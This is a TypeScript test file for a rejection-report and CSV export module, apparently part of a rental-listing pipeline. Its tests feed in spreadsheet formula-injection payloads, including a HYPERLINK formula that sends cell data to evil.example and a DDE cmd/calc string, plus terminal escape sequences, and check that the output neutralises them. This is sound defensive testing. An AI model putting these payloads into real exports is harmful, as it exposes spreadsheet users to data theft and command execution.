import assert from 'node:assert/strict';
import { describe, it, test } from 'node:test';
import fc from 'fast-check';
import { createRejectionReport, type Rejection, rejectionsCsv } from './rejection.ts';

const bad = (reference: string, reason = 'is bad'): Rejection => ({
  reference,
  field: 'name',
  rule: 'wrong_type',
  reason,
});
const repaired = (reference: string): Rejection => ({
  ...bad(reference),
  rule: 'carries_contact',
  repaired: true,
});

test('the first thousand are listed, the others counted', () => {
  const report = createRejectionReport();
  report.add(Array.from({ length: 999 }, (_, at) => bad(String(at))));
  report.add([bad('last'), bad('too late')], 40);
  report.add([bad('later')]);
  const { rejections, notListed } = report.all();
  assert.equal(rejections.length, 1000);
  assert.equal(rejections.at(-1)?.reference, 'last');
  assert.equal(notListed, 42);
});

test('of repaired homes beyond the thousand none counts as held back', () => {
  const report = createRejectionReport();
  report.add(Array.from({ length: 1500 }, (_, at) => repaired(String(at))));
  report.add([bad('not on offer')]);
  const { rejections, notListed } = report.all();
  assert.deepEqual([rejections.length, rejections[0]?.repaired, notListed], [1000, true, 1]);
});

test('all are counted by their rule, also those that another report did not list', () => {
  const page = createRejectionReport();
  page.add(Array.from({ length: 1500 }, (_, at) => repaired(String(at))));
  page.add([bad('not on offer')]);
  const whole = createRejectionReport();
  whole.add([bad('first'), repaired('second')]);
  const { rejections, notListed, counts } = page.all();
  whole.add(rejections, notListed, counts);
  assert.deepEqual(whole.all().counts, {
    wrong_type: { refused: 2, repaired: 0 },
    carries_contact: { refused: 0, repaired: 1501 },
  });
  assert.equal(whole.all().notListed, 1);
});

test('a reason is short, however long an operator makes it', () => {
  const report = createRejectionReport();
  report.add([{ ...bad('a', 'r'.repeat(5000)), field: 'f'.repeat(5000) }, bad('b')]);
  const [first, second] = report.all().rejections;
  assert.equal(first?.reason.length, 300);
  assert.equal(first?.field.length, 300);
  assert.deepEqual(second, bad('b'));
});

test('nothing in a report can steer a terminal', () => {
  const report = createRejectionReport();
  report.add([{ ...bad('\u001b[2Jcasa\n2'), field: 'amenities/\u202ea' }]);
  const [held] = report.all().rejections;
  assert.deepEqual([held?.reference, held?.field], ['\\u{1b}[2Jcasa\\n2', 'amenities/\\u{202e}a']);
});

const held: Rejection = {
  reference: 'casa-1',
  field: 'images/0/url',
  rule: 'address_not_https',
  reason: 'must begin with https://',
  value: 'http://casas.example/1.jpg',
  repaired: true,
};
const HEADER = 'brand,reference,place,rule,value,reason,remedy,repaired';

describe('what is held back, as CSV', () => {
  it('has a header, and a row with the remedy for each part', () => {
    assert.equal(
      rejectionsCsv([
        {
          brand: 'sol',
          rejections: [
            held,
            { reference: 'casa-2', field: '', rule: 'over_budget', reason: 'is "too much", again' },
          ],
          unmappedAmenities: [
            { amenity: 'Moat', listings: 2 },
            { amenity: 'Igloo', listings: 1 },
          ],
        },
      ]),
      [
        HEADER,
        'sol,casa-1,images/0/url,address_not_https,http://casas.example/1.jpg,must begin with https://,"Serve the page or picture over https, and link to it so.",true',
        'sol,casa-2,listing,over_budget,,"is ""too much"", again",Ask the owner of the network to raise `budget.listings` or `budget.megabytes` in the entry of the brand.,false',
        'sol,,amenities,unknown_amenity,Moat,is in 2 listings and not in the vocabulary,"Use one of the standard amenities of your booking system, where one means the same.",true',
        'sol,,amenities,unknown_amenity,Igloo,is in 1 listing and not in the vocabulary,"Use one of the standard amenities of your booking system, where one means the same.",true',
        '',
      ].join('\r\n'),
    );
    assert.equal(rejectionsCsv([]), `${HEADER}\r\n`);
  });

  for (const [formula, shown] of [
    ['=HYPERLINK("https://evil.example?"&A1)', `'=HYPERLINK("https://evil.example?"&A1)`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['  =1+1', "'  =1+1"],
    ['"=1+1', `'"=1+1`],
    ['＝1+1', "'＝1+1"],
    ['\t=1+1', "'\t'=1+1"],
    ['\n=1', "'\n'=1"],
    ['Lisbon;=cmd|calc', "Lisbon;'=cmd|calc"],
    ['Lisbon; "=1', `Lisbon; "'=1`],
    ['a;b;;@c;＋1', "a;b;;'@c;'＋1"],
    ['a\t-1\r\n+1', "a\t'-1\r\n'+1"],
    ['a|=1,=2', "a|'=1,'=2"],
  ] as const) {
    it(`holds no formula: ${JSON.stringify(formula)}`, () => {
      const [, row] = parsed(rejectionsCsv([{ brand: 'sol', rejections: [{ ...held, value: formula }] }]));
      assert.equal(row?.[4], shown);
    });
  }

  it('holds no formula for a spreadsheet that parts at another sign, whether or not it knows quotes', () => {
    const text = fc.string({ unit: fc.constantFrom(...'",;|\t\r\n\'=+-@a ') });
    fc.assert(
      fc.property(text, text, (reference, value) => {
        const csv = rejectionsCsv([{ brand: 'sol', rejections: [{ ...held, reference, value }] }]);
        for (const separator of [';', '|', '\t', ',']) {
          for (const cell of csv.split(/[\r\n]/).flatMap((line) => line.split(separator))) {
            assert.doesNotMatch(cell.replace(/^[\s"]+/, ''), /^[=+\-@]/);
          }
        }
      }),
    );
  });

  it('reads back as it was, whatever an operator wrote', () => {
    const text = fc.string({ unit: fc.constantFrom(...'",\r\n\'=a +;é') });
    fc.assert(
      fc.property(text, text, (reference, value) => {
        const rows = parsed(rejectionsCsv([{ brand: 'sol', rejections: [{ ...held, reference, value }] }]));
        assert.equal(rows.length, 2);
        const [, row] = rows;
        assert.equal(row?.length, 8);
        for (const [at, written] of [
          [1, reference],
          [4, value],
        ] as const) {
          const cell: string = row?.[at] ?? '';
          // Nothing but apostrophes was added.
          assert.equal(cell.replaceAll("'", ''), written.replaceAll("'", ''));
          assert.doesNotMatch(cell.trim(), /^[=+\-@]/);
        }
      }),
    );
  });
});

/** A plain reader of RFC 4180, sign by sign. */
function parsed(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < csv.length; at += 1) {
    const sign = csv[at];
    if (isQuoted) {
      if (sign === '"' && csv[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else if (sign === '"') isQuoted = false;
      else cell += sign;
    } else if (sign === '"') isQuoted = true;
    else if (sign === ',' || (sign === '\r' && csv[at + 1] === '\n')) {
      row.push(cell);
      cell = '';
      if (sign === '\r') {
        rows.push(row);
        row = [];
        at += 1;
      }
    } else cell += sign;
  }
  return rows;
}
